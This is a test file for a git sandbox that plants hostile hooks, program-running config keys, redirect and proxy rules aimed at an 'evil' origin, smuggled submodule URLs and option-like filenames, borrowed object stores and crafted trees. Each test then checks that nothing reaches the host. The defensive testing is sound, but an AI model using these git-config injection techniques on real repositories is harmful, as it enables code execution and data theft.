import { execFileSync } from "node:child_process";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { Changes } from "../../../contracts/types.js";
import { createLocalSandbox } from "../../../src/sandbox/backends/local.js";
import { type Life, liveThrough, type Stage, setStage } from "../../support/git/hostile-cycle.js";
import { createRepository, git } from "../../support/scratch.js";

const HOOKS = [
  ...["applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit", "prepare-commit-msg"],
  ...["commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge", "pre-push", "pre-receive", "update"],
  ...["proc-receive", "post-receive", "post-update", "reference-transaction", "push-to-checkout", "pre-auto-gc"],
  ...["post-rewrite", "sendemail-validate", "fsmonitor-watchman", "p4-changelist", "p4-prepare-changelist"],
  ...["p4-post-changelist", "p4-pre-submit", "post-index-change"],
];
const GIT = "/glovebox/git";

let stage: Stage;
beforeEach(async () => {
  stage = await setStage();
});
afterEach(() => stage.close());

/** All steps as if nothing had been planted. */
const unharmed: Partial<Life> = { harm: [], restore: "work\n", fork: "work\n", push: { pushed: true } };
const added = (...paths: string[]): unknown => ({
  patch: expect.stringContaining("+work"),
  files: paths.map((path) => ({ path, status: "added" })),
});

/** What the remote got is what was shown, by a look at the remote itself. */
function pushed(path: string): string {
  return git(stage.remote, "show", `work:${path}`);
}

describe("planted inside, run through the whole life of a sandbox: nothing of it reaches the host", () => {
  test("[N-GIT-01] [N-GIT-02] [N-GIT-20] [N-GIT-30] hooks, settings, an embedded bare repository and background work start nobody", async () => {
    const { evil, server, payloadOf } = stage;
    const payload = payloadOf("N-GIT-02");
    const background = `git config gc.auto 1; git config gc.autoDetach true; git config maintenance.auto true; git config fetch.writeCommitGraph true
      for i in 1 2 3 4 5; do printf $i > f$i; git add f$i; git -c gc.auto=0 commit -qm $i; done`;
    const embedded = `mkdir -p docs/objects docs/refs; printf 'ref: refs/heads/x\\n' > docs/HEAD
      printf '[core]\\n\\trepositoryFormatVersion = 0\\n\\tbare = false\\n\\tfsmonitor = "${payloadOf("N-GIT-20")}"\\n\\tworktree = ..\\n' > docs/config; printf x > docs/objects/x; printf x > docs/refs/x
      ( cd docs && git status >/dev/null 2>&1 )`;
    // Every hook, in the git directory and by core.hooksPath.
    const hooks = `mkdir -p ${GIT}/hooks hooks; for h in ${HOOKS.join(" ")}; do for d in ${GIT}/hooks hooks; do
        printf '#!/bin/sh\\n${payloadOf("N-GIT-01")} >/dev/null </dev/null\\n' > $d/$h; chmod 755 $d/$h; done; done
      git config core.hooksPath "$PWD/hooks"; printf 'hooks/\\n' > ${GIT}/info/exclude`;
    // Settings that name programs, also by include, includeIf and config.worktree.
    const settings = `cat > ${GIT}/evil <<'END'
[core]
	fsmonitor = "${payload}"
	sshCommand = "${payload}"
	askPass = "${payload}"
	editor = "${payload}"
	pager = "${payload}"
	alternateRefsCommand = "${payload}"
	gitProxy = "${payload}"
[credential]
	helper = "!${payload}"
[credential "${server.origin}"]
	helper = "!${payload}"
[commit]
	gpgSign = true
[tag]
	gpgSign = true
[push]
	gpgSign = true
[log]
	showSignature = true
[gpg]
	program = "${payload}"
[gpg "ssh"]
	defaultKeyCommand = "${payload}"
[diff]
	external = "${payload}"
[uploadpack]
	packObjectsHook = "${payload}"
[pager]
	diff = "${payload}"
[alias]
	diff-tree = "!${payload}"
[url "${evil.origin}/"]
	insteadOf = ${server.origin}/
	pushInsteadOf = ${server.origin}/
[http]
	proxy = ${evil.origin}
	sslVerify = false
[http "${server.origin}/"]
	proxy = ${evil.origin}
	extraHeader = "X: y"
	cookieFile = /etc/passwd
	curloptResolve = "127.0.0.1:80:${new URL(evil.origin).hostname}"
[remote "origin"]
	url = ${evil.origin}/project.git
	proxy = ${evil.origin}
	receivepack = "${payload}"
	uploadpack = "${payload}"
	fetch = +refs/*:refs/*
[gc]
	auto = 1
[maintenance]
	auto = true
[submodule]
	recurse = true
[protocol "ext"]
	allow = always
END
      cp ${GIT}/evil ${GIT}/config.worktree
      printf '[extensions]\\n\\tworktreeConfig = true\\n[include]\\n\\tpath = evil\\n[includeIf "gitdir:/"]\\n\\tpath = evil\\n' >> ${GIT}/config`;
    const life = await liveThrough(stage, [background, embedded, hooks, settings].join("\n"));
    expect(life.planted).toBe("");
    expect(life).toMatchObject({ ...unharmed, changes: { patch: expect.stringContaining("+work") } });
    expect(pushed("work.txt")).toBe("work");
    expect(git(stage.remote, "log", "--format=%s", "work").split("\n")).toContain("5");
  });

  test("[N-GIT-11] [N-GIT-22] filters, textconv, diff and merge drivers and archivers, also in nested repositories, that no setting may make visible", async () => {
    const [own, nested] = [stage.payloadOf("N-GIT-11"), stage.payloadOf("N-GIT-22")];
    const life = await liveThrough(
      stage,
      `for n in born unborn; do git init -q $n; git -C $n config core.fsmonitor '${nested}'; git -C $n config filter.x.clean '${nested}'
        git -C $n config filter.x.required true; printf '* filter=x\\n' > $n/.gitattributes; printf in > $n/file; done
      cd born; printf in > other; git -c core.fsmonitor=false -c filter.x.clean=cat -c user.name=a -c user.email=b commit -q --allow-empty -m x; cd ..
      git config diff.ignoreSubmodules none; git config status.submoduleSummary true
      printf '* filter=x diff=x merge=x\\n' > .gitattributes; mkdir -p ${GIT}/info; cp .gitattributes ${GIT}/info/attributes
      mkdir -p deep; cp .gitattributes deep/.gitattributes; printf 'deep\\n' > deep/file
      for k in filter.x.clean filter.x.smudge filter.x.process diff.x.textconv diff.x.command diff.external merge.x.driver merge.default tar.tar.gz.command; do
        git config "$k" '${own}'; done; git config filter.x.required true; git config merge.default x`,
    );
    expect(life).toMatchObject({
      ...unharmed,
      changes: added(".gitattributes", "deep/.gitattributes", "deep/file", "work.txt"),
    });
    expect(pushed("deep/file")).toBe("deep");
    expect(life.warnings.join("\n")).toMatch(/"born" is a repository of its own/);
    expect(git(stage.remote, "ls-tree", "-r", "work")).not.toContain("160000");
  });

  test("[N-GIT-17] [N-GIT-21] [N-GIT-23] [N-GIT-24] files that are hidden, links that lead outside, names like options and submodules' URLs are only files", async () => {
    // assume-unchanged, skip-worktree, info/exclude and a nested .gitignore hide nothing but what is ignored.
    const hidden = `printf 'hidden\\n' > a.txt; git update-index --assume-unchanged a.txt; printf 'hidden\\n' > sub/b.txt; git update-index --skip-worktree sub/b.txt
      printf 'added\\n' > added; printf 'added\\n' >> ${GIT}/info/exclude; git config core.excludesFile ${GIT}/info/exclude
      mkdir deep; printf '*\\n' > deep/.gitignore; printf 'ignored\\n' > deep/file`;
    const links = `ln -s ${stage.victim}/a.txt absolute; ln -s ../../../etc up; ln -s ${stage.victim} dir`;
    const names = ["--help", "-rf", "--output=x", "--upload-pack=touch x", "-", "--", "@{-1}", "HEAD", ":(top)x", "*"];
    const urls = ["ext::sh -c touch%20x", "file:///etc", "https://evil.invalid/x"];
    const modules = urls.map(
      (url, n) =>
        `printf '[submodule "x${n}"]\\n\\tpath = x${n}\\n\\turl = %s\\n\\tignore = none\\n' '${url}' >> .gitmodules; git init -q x${n}; printf f > x${n}/f`,
    );
    const life = await liveThrough(
      stage,
      [hidden, links, ...names.map((name) => `printf x > './${name}'`), ...modules].join("\n") +
        "\ngit config submodule.recurse true",
    );
    expect(life.planted).toBe("");
    expect(life).toMatchObject(unharmed);
    const fresh = [".gitmodules", "absolute", "added", "dir", "up", "work.txt", ...names];
    const files = [
      ...fresh.map((path) => ({ path, status: "added" })),
      ...["a.txt", "sub/b.txt"].map((path) => ({ path, status: "modified" })),
    ];
    expect((life.changes as Changes).files).toEqual(files.sort((a, b) => (a.path < b.path ? -1 : 1)));
    expect(life.warnings.filter((text) => text.includes("leads outside")).length).toBeGreaterThan(2);
    expect([pushed("a.txt"), pushed("sub/b.txt"), pushed("added")]).toEqual(["hidden", "hidden", "added"]);
    expect(git(stage.remote, "ls-tree", "-r", "--name-only", "-z", "work").split("\0").filter(Boolean).sort()).toEqual(
      [".gitignore", ...files.map(({ path }) => path)].sort(),
    );
    expect(git(stage.remote, "for-each-ref", "--format=%(refname)")).toBe("refs/heads/main\nrefs/heads/work");
  });

  test("[N-GIT-12] .git deleted, replaced or moved, and the private directory pointed elsewhere", async () => {
    const life = await liveThrough(
      stage,
      `rm -rf .git; mv .git elsewhere; ln -sfn ${stage.victim}/.git .git; mkdir .git; printf 'gitdir: ${stage.victim}/.git\\n' > .git
      printf '${stage.victim}/.git\\n' > ${GIT}/commondir; printf '${stage.victim}/.git\\n' > ${GIT}/gitdir
      printf 'ref: refs/heads/main\\n' > ${GIT}/HEAD; true`,
    );
    expect(life).toMatchObject({ ...unharmed, changes: added("work.txt") });
  });

  test("[N-GIT-12] a private directory without anything in it", async () => {
    const life = await liveThrough(
      stage,
      `find ${GIT} -mindepth 1 -delete; ln -s /etc/passwd ${GIT}/HEAD; mkfifo ${GIT}/config`,
    );
    expect(life).toMatchObject({ ...unharmed, changes: added("work.txt") });
    expect(life.warnings.join("\n")).toContain("commits of the sandbox are left out");
  });

  test("[N-GIT-13] HEAD on main and branches that are other branches: no ref of the user's moves", async () => {
    const life = await liveThrough(
      stage,
      `git symbolic-ref refs/heads/work refs/heads/main; git symbolic-ref HEAD refs/heads/main; git symbolic-ref refs/heads/other refs/heads/main
      git add -A; git commit -qm moved; git update-ref refs/tags/v1 HEAD; git branch -f other; git update-ref -d refs/remotes/x || :`,
    );
    expect(life).toMatchObject({ ...unharmed, changes: added("work.txt") });
    expect(git(stage.remote, "log", "-1", "--format=%s", "work")).toBe("moved");
  });

  test("[N-GIT-14] core.worktree, core.bare and a sparse checkout", async () => {
    const life = await liveThrough(
      stage,
      `git status >/dev/null; git sparse-checkout init --cone; git sparse-checkout set nothing; printf 'work\\n' > work.txt
      git config core.worktree ${stage.victim}; git config core.bare true; git config core.sparseCheckout true; true`,
    );
    expect(life.harm).toEqual([]);
    // What a sparse checkout took away is gone from the tree: that is what the changes say, and what is pushed.
    expect(life.changes).toMatchObject({
      files: [
        { path: "sub/b.txt", status: "deleted" },
        { path: "work.txt", status: "added" },
      ],
    });
    expect(life.push).toEqual({ pushed: true });
    expect(git(stage.remote, "ls-tree", "-r", "--name-only", "work")).toBe(".gitignore\na.txt\nwork.txt");
  });

  test("[N-GIT-16] replaced objects, grafts and a shallow file: what is shown is what is pushed", async () => {
    const life = await liveThrough(
      stage,
      `printf 'evil\\n' > a.txt; git add -A; git commit -qm evil
      git replace HEAD:a.txt HEAD~1:a.txt; git replace HEAD HEAD~1; git replace HEAD^{tree} HEAD~1^{tree} || :
      git rev-parse HEAD > ${GIT}/shallow; printf '%s\\n' "$(git rev-parse main)" > ${GIT}/info/grafts`,
    );
    expect(life).toMatchObject({ ...unharmed, changes: { patch: expect.stringContaining("+evil") } });
    expect(pushed("a.txt")).toBe("evil");
  });

  test("[N-GIT-18] a promisor remote and objects that are missing", async () => {
    const life = await liveThrough(
      stage,
      `git add -A; git commit -qm mine; git config remote.p.url /nowhere; git config remote.p.promisor true
      git config remote.p.partialCloneFilter blob:none; git config extensions.partialClone p; git config core.repositoryFormatVersion 1
      git config remote.p.uploadpack '${stage.payload}'; git config protocol.file.allow always; git config protocol.ext.allow always
      blob=$(git rev-parse HEAD:work.txt); rm -f ${GIT}/objects/$(printf %.2s $blob)/*`,
    );
    expect(life).toMatchObject(unharmed);
  });

  test("[N-GIT-18] an object store that borrows from somebody else's, and a commit of its objects", async () => {
    const secret = git(stage.victim, "rev-parse", "HEAD:a.txt");
    const life = await liveThrough(
      stage,
      `git add -A; printf '${stage.victim}/.git/objects\\n/glovebox/objects\\n' > ${GIT}/objects/info/alternates
      tree=$(printf '100644 blob ${secret}\\tstolen\\n' | git mktree --missing)
      git update-ref HEAD "$(git commit-tree -p HEAD -m stolen $tree)"`,
    );
    expect(life.planted).toBe("");
    expect(life).toMatchObject({ ...unharmed, changes: added("work.txt") });
    expect(life.warnings.join("\n")).toContain("commits of the sandbox are left out");
    expect(git(stage.remote, "ls-tree", "-r", "--name-only", "work")).not.toContain("stolen");
  });

  test("[N-GIT-18] damaged packs, an absurd number of refs and a tree whose names no list of arguments would hold", async () => {
    const life = await liveThrough(
      stage,
      `head -c 100000 /dev/urandom > ${GIT}/objects/pack/pack-1234567890123456789012345678901234567890.pack
      head -c 100000 /dev/urandom > ${GIT}/objects/pack/pack-1234567890123456789012345678901234567890.idx
      h=$(git rev-parse HEAD); awk -v h=$h 'BEGIN { for (i = 0; i < 100000; i++) printf "%s refs/heads/r%06d\\n", h, i }' > ${GIT}/packed-refs
      b=$(printf x | git hash-object -w --stdin)
      t=$(awk -v b=$b 'BEGIN { for (i = 0; i < 16000; i++) printf "100644 blob %s\\tf%0199d\\n", b, i }' | git mktree)
      git update-ref HEAD "$(git commit-tree -p $h -m big $t)"`,
    );
    expect(life).toMatchObject({ harm: [], changes: added("work.txt"), push: { pushed: true } });
  });

  test("[N-GIT-21] .gitmodules with what a git would follow is refused, whichever it is", async () => {
    const plants = {
      "a URL that is an option": "url = -u./evil",
      "an update that is a command": 'url = ./x\n\tupdate = "!touch x"',
      "a path that is an option": "url = ./x\n\tpath = -x",
      "a path with a carriage return": 'url = ./x\n\tpath = "x\r"',
    };
    const scripts = Object.entries(plants).map(([name, lines]) => {
      const text = `[submodule "x"]\n\tpath = x\n\t${lines}\n\tignore = none\n`;
      return [name, `printf %s ${Buffer.from(text).toString("base64")} | base64 -d > .gitmodules`];
    });
    const life = await liveThrough(stage, "true", { each: Object.fromEntries(scripts) });
    const refused = { planted: "", snapshot: "refused: tampered", push: "refused: tampered" };
    expect(life).toMatchObject({
      ...{ harm: [], snapshot: "refused: tampered", push: "refused: tampered" },
      each: Object.fromEntries(Object.keys(plants).map((name) => [name, refused])),
    });
    expect(git(stage.repo, "for-each-ref", "refs/glovebox")).toBe("");
  });

  test("[N-GIT-23] crafted commits made inside do not come in, whichever it is", async () => {
    const raw = (names: string): string =>
      `{ for n in ${names}; do printf '100644 %s\\0' "$n"; printf %s $b | xxd -r -p; done; } | git hash-object -t tree -w --literally --stdin`;
    const entry = (text: string): string => `printf "${text}" | git mktree --missing`;
    const trees = {
      ".git": entry("100644 blob $b\\t.git\\n"),
      "..": entry("100644 blob $b\\t..\\n"),
      "a slash in a name": raw("a/b"),
      ".git as another file system reads it": entry("100644 blob $b\\t.g\\342\\200\\214it\\n"),
      ".git in its short form": entry("100644 blob $b\\tgit~1\\n"),
      "the same name twice": raw("same same"),
      "a link to another repository": entry("160000 commit $(git rev-parse HEAD)\\tlinked\\n"),
      ".gitmodules that is a symbolic link": entry("120000 blob $b\\t.gitmodules\\n"),
    };
    const scripts = Object.entries(trees).map(([name, tree]) => [
      name,
      `set -e; b=$(printf x | git hash-object -w --stdin); t=$(${tree})
      c=$(git commit-tree -p main -m crafted $t); clean=$(git commit-tree -p $c -m after main^{tree}); git update-ref refs/heads/work $clean`,
    ]);
    const life = await liveThrough(stage, "true", { each: Object.fromEntries(scripts) });
    const kept = { planted: "", snapshot: expect.not.stringContaining("refused"), push: { pushed: true } };
    expect(life).toMatchObject({
      ...{ ...unharmed, changes: added("work.txt") },
      each: Object.fromEntries(Object.keys(trees).map((name) => [name, kept])),
    });
    // By the snapshot, the fork and the push.
    const told = Object.entries(life.each).map(([name, { warnings }]) => [
      name,
      warnings.filter((text) => text.includes("commits of the sandbox are left out")).length,
    ]);
    expect(told).toEqual(Object.keys(trees).map((name) => [name, 3]));
    // Nor is one among those that a later push wrote over.
    expect(git(stage.remote, "cat-file", "--batch-all-objects", "--batch")).not.toContain("crafted");
  });
});

test.each(["worktree", "overlay", "copy"] as const)(
  "[N-GIT-12] below the user's own repository, in the workspace %s, nobody takes that for the one of the files",
  async (workspace) => {
    const temporary = process.env["TMPDIR"];
    const inside = join(stage.repo, "ignored");
    mkdirSync(inside);
    process.env["TMPDIR"] = inside;
    try {
      const life = await liveThrough(
        stage,
        `rm -rf .git; mv .git moved; find ${GIT} -mindepth 1 -delete; git add -A; git -c user.name=a -c user.email=b commit -qm inside; true`,
        { workspace },
      );
      expect(life).toMatchObject({ ...unharmed, changes: added("work.txt") });
    } finally {
      if (temporary === undefined) delete process.env["TMPDIR"];
      else process.env["TMPDIR"] = temporary;
    }
  },
);

describe.each(["overlay", "copy"] as const)("the same in the workspace %s", (workspace) => {
  test("programs in settings, attributes, hooks and nested repositories", async () => {
    const life = await liveThrough(
      stage,
      `printf '* filter=x diff=x\\n' > .gitattributes; mkdir -p ${GIT}/hooks; for h in ${HOOKS.join(" ")}; do
        printf '#!/bin/sh\\n${stage.payload} >/dev/null </dev/null\\n' > ${GIT}/hooks/$h; chmod 755 ${GIT}/hooks/$h; done
      for k in core.fsmonitor filter.x.clean filter.x.smudge diff.x.textconv diff.external core.askPass; do git config $k '${stage.payload}'; done
      git init -q nested; git -C nested config core.fsmonitor '${stage.payload}'; printf in > nested/file
      printf '${stage.victim}/.git\\n' > ${GIT}/commondir; true`,
      { workspace },
    );
    expect(life).toMatchObject({ ...unharmed, changes: added(".gitattributes", "work.txt") });
    expect(pushed("work.txt")).toBe("work");
  });

  test("commits made inside are pushed, saved, restored and forked", async () => {
    const life = await liveThrough(stage, "rm sub/b.txt; git add -A; git commit -qm mine; rm -rf sub; printf x > sub", {
      workspace,
    });
    expect(life).toMatchObject(unharmed);
    expect(life.warnings).toEqual([]);
    expect(git(stage.remote, "log", "-2", "--format=%s", "work")).toContain("mine");
  });
});

describe("what the caller's environment says does not count", () => {
  test("variables of git that name programs, directories and settings", async () => {
    const { scratch, victim, payload, evil } = stage;
    const planted: Record<string, string> = {
      GIT_DIR: join(victim, ".git"),
      GIT_WORK_TREE: victim,
      GIT_INDEX_FILE: join(victim, ".git", "index"),
      GIT_OBJECT_DIRECTORY: join(victim, ".git", "objects"),
      GIT_ALTERNATE_OBJECT_DIRECTORIES: join(victim, ".git", "objects"),
      GIT_EXTERNAL_DIFF: payload,
      GIT_SSH_COMMAND: payload,
      GIT_EXEC_PATH: scratch.path,
      GIT_TEMPLATE_DIR: scratch.path,
      GIT_EDITOR: payload,
      GIT_PAGER: payload,
      GIT_CONFIG_COUNT: "2",
      GIT_CONFIG_KEY_0: "core.fsmonitor",
      GIT_CONFIG_VALUE_0: payload,
      GIT_CONFIG_KEY_1: "http.proxy",
      GIT_CONFIG_VALUE_1: evil.origin,
      GIT_NAMESPACE: "evil",
    };
    Object.assign(process.env, planted);
    try {
      expect(await liveThrough(stage, "true")).toMatchObject({ ...unharmed, changes: added("work.txt") });
    } finally {
      for (const name of Object.keys(planted)) delete process.env[name];
    }
  });
});

describe("a directory inside the user's repository", () => {
  test("is saved and restored without a touch to the repository around it", async () => {
    const { repo } = stage;
    const before = [git(repo, "for-each-ref"), git(repo, "status", "--porcelain")];
    const sandbox = await createLocalSandbox({ baseDir: join(repo, "sub") });
    try {
      await sandbox.shell(`printf 'gitdir: ${stage.victim}/.git\\n' > .git; printf x > new`);
      const id = await sandbox.snapshot();
      await sandbox.shell("rm -rf .git new");
      await sandbox.restore(id);
      expect(await sandbox.readFile("new")).toBe("x");
      await sandbox.shell("rm -rf .git new");
    } finally {
      await sandbox.teardown();
    }
    expect([git(repo, "for-each-ref"), git(repo, "status", "--porcelain")]).toEqual(before);
  });
});

describe("a repository of somebody else's", () => {
  test.runIf(process.getuid?.() === 0)(
    "[N-GIT-29] is refused with a hint, and no setting of the user's is changed",
    async () => {
      const foreign = createRepository(join(stage.scratch.path, "foreign"));
      execFileSync("chown", ["-R", "12345:12345", foreign]);
      await expect(createLocalSandbox({ repo: foreign, branch: "work" })).rejects.toMatchObject({
        code: "permission_denied",
        hint: expect.stringContaining("safe.directory"),
      });
    },
  );
});
